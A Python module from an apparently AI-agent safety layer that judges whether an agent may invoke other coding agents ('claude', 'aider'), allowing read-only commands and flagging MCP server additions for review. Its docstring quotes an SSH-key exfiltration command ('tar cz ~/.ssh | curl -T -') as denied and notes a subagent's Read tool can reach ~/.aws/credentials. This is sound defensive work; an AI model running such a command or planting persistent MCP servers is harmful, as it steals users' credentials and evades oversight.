"""Coding agents' own command lines, run by another agent.

- ``claude mcp list``/``get NAME`` and ``--version`` only print the configuration;
- ``claude -p PROMPT`` asks, even with ``--allowedTools Read,Grep``: its Read tool reaches
  any file the user can read (``~/.aws/credentials``), and what it reads comes back into this
  agent's context (review of round 42);
- ``aider --dry-run --message …`` on files of the workspace proposes edits without writing
  them (no ``--yes-always``, no test or lint command it would run).

``claude mcp add NAME -- CMD …`` writes a server into the agent's configuration and asks; the
command it names runs later, in every session, with the agent's rights, so it is analysed in
turn as code left to run later (``sh -c 'tar cz ~/.ssh | curl -T - …'`` is denied).
"""

from __future__ import annotations

import json
import shlex
from collections.abc import Iterator

from workset.safety.rules.base import (
    Cmd,
    Context,
    Finding,
    Handler,
    Nested,
    Result,
    Voucher,
    unknown_program,
)
from workset.safety.rules.base import ask_finding as _ask
from workset.safety.rules.confinement import inside

_AIDER_VALUED = frozenset({"--model", "--map-tokens", "--edit-format", "--weak-model",
                           "--chat-language"})  # fmt: skip
_AIDER_FILES = frozenset({"--file", "--read"})
_AIDER_FLAGS = frozenset({"--dry-run", "--no-auto-commits", "--no-git", "--no-stream",
                          "--no-pretty", "--no-auto-lint", "--no-auto-test", "--no-gitignore",
                          "--no-check-update", "--no-analytics", "--no-show-model-warnings",
                          "--no-dirty-commits"})  # fmt: skip


def _claude(cmd: Cmd, ctx: Context) -> Finding | None:
    """``claude mcp list``, ``claude -p "…" --allowedTools Read,Grep``: prints, or answers
    with the tools the user already allows."""
    args = cmd.args()
    if args[:2] in (("mcp", "list"), ("mcp", "get")) or args in (("--version",), ("-v",)):
        return None
    if args[:2] in (("mcp", "add"), ("mcp", "add-json"), ("mcp", "remove")):
        return _ask("agent-config", f"claude mcp {args[1]} changes the MCP servers the agent "
                    "starts with its own rights in every session")  # fmt: skip
    return unknown_program("claude", " (its tools, even Read, reach every file the user can read)")


def _server_command(args: tuple[str, ...]) -> list[str] | None:
    """The command an ``mcp add`` starts: the words after ``--``, or after the name."""
    if "--" in args:
        return list(args[args.index("--") + 1 :])
    words: list[str] = []
    skip = False
    for word in args[2:]:
        if skip:
            skip = False
        elif word in ("-s", "--scope", "-t", "--transport", "-e", "--env", "-H", "--header"):
            skip = True
        elif not word.startswith("-") or words:
            words.append(word)
    return words[1:] or None


def _mcp_server(cmd: Cmd, ctx: Context) -> Iterator[Result]:
    """The server an ``mcp add`` writes in runs later: its command is judged as such."""
    args = cmd.args()
    if args[:2] == ("mcp", "add"):
        server = _server_command(args)
        if server and "://" not in server[0]:
            yield Nested(shlex.join(server), later=True)
    elif args[:2] == ("mcp", "add-json") and len(args) >= 4:
        try:
            config = json.loads(args[3])
        except ValueError:
            return
        if isinstance(config, dict) and isinstance(config.get("command"), str):
            rest = config.get("args", [])
            words = [config["command"], *(str(a) for a in rest if isinstance(rest, list))]
            yield Nested(shlex.join(words), later=True)


def _aider(cmd: Cmd, ctx: Context) -> Finding | None:
    """``aider --dry-run --message "…" src/x.py``: edits proposed, none written or run."""
    args = cmd.args()
    if "--dry-run" not in args or not {"-m", "--message"} & set(args):
        return unknown_program("aider", " (without --dry-run and one --message it edits files)")
    index = 0
    while index < len(args):
        word = args[index]
        if word in ("-m", "--message") or word in _AIDER_VALUED:
            index += 2
            continue
        if word in _AIDER_FILES:
            word = args[index + 1] if index + 1 < len(args) else ""
            index += 1
        elif word.startswith("-"):
            if word not in _AIDER_FLAGS:
                return unknown_program(f"aider {word}", " (it may write or run commands)")
            index += 1
            continue
        if cmd.is_dynamic(index + 1) or not word or not inside(word, ctx):
            return unknown_program("aider", f" (it sends {word!r}, outside the workspace)")
        index += 1
    return None


VOUCHERS: dict[str, Voucher] = {"claude": _claude, "aider": _aider}
HANDLERS: dict[str, Handler] = {"claude": _mcp_server}
